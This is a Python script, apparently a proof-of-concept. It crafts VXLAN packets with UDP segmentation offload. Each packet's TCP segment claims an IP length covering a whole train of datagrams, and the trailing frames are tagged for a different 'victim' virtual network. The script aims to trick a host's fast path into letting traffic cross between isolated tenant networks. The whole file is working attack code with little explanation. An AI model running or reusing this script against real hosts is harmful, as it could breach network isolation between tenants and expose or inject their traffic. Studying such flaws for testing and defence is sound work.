"""Has a host put a TCP conversation on its fast path, and then sends trains that pass for one segment of it.

liar_stream.py SOURCE DESTINATION VNI VICTIM STATION TARGET

STATION and TARGET are Ethernet addresses in VNI. Of each train the first datagram is a TCP segment between them, whose IP length
reaches to the end of the train; those behind it are frames of the VNI VICTIM that say OVXMARK:victim. Once over IPv4 and
once over IPv6 inside, with 2, 5 and 20 datagrams.
"""

import socket
import struct
import sys
import time

SIZE = 600
UDP_SEGMENT = 103

source, destination = sys.argv[1], sys.argv[2]
vni, victim = int(sys.argv[3]), int(sys.argv[4])
station, target = (bytes.fromhex(text.replace(":", "")) for text in sys.argv[5:7])
out = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
out.bind((source, 0))
out.connect((destination, 4789))


def ones_complement(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return total


def segment(is_ipv6, claimed, size):
    """A frame of so many bytes whose IP header claims others, with the sum of the pseudo-header for a checksum."""
    length = claimed - (54 if is_ipv6 else 34)
    if is_ipv6:
        addresses = socket.inet_pton(socket.AF_INET6, "fd17::21") + socket.inet_pton(socket.AF_INET6, "fd17::22")
        network = struct.pack("!IHBB", 6 << 28, length, 6, 64) + addresses
    else:
        addresses = socket.inet_aton("172.17.42.21") + socket.inet_aton("172.17.42.22")
        network = struct.pack("!BBHHHBBH", 0x45, 0, claimed - 14, 7, 0x4000, 64, 6, 0) + addresses
        network = network[:10] + struct.pack("!H", ones_complement(network) ^ 0xFFFF) + network[12:]
    tcp = struct.pack("!HHIIBBHHH", 4000, 4001, 1, 1, 5 << 4, 0x10, 500, ones_complement(addresses + struct.pack("!II", 6, length)), 0)
    frame = target + station + struct.pack("!H", 0x86DD if is_ipv6 else 0x0800) + network + tcp
    return frame.ljust(size, b"L")


def datagram(number, frame):
    return struct.pack("!BBHI", 8, 0, 0, number << 8) + frame


frame = (target + station + bytes.fromhex("88b5") + b"OVXMARK:victim:-:").ljust(SIZE, b"v")
for is_ipv6 in (False, True):
    for _ in range(12):
        out.send(datagram(vni, segment(is_ipv6, 200, 200)))
        time.sleep(0.2)
    for count in (2, 5, 20):
        train = datagram(vni, segment(is_ipv6, count * (SIZE + 8) - 8, SIZE)) + datagram(victim, frame) * (count - 1)
        out.sendmsg([train], [(socket.IPPROTO_UDP, UDP_SEGMENT, struct.pack("H", SIZE + 8))])
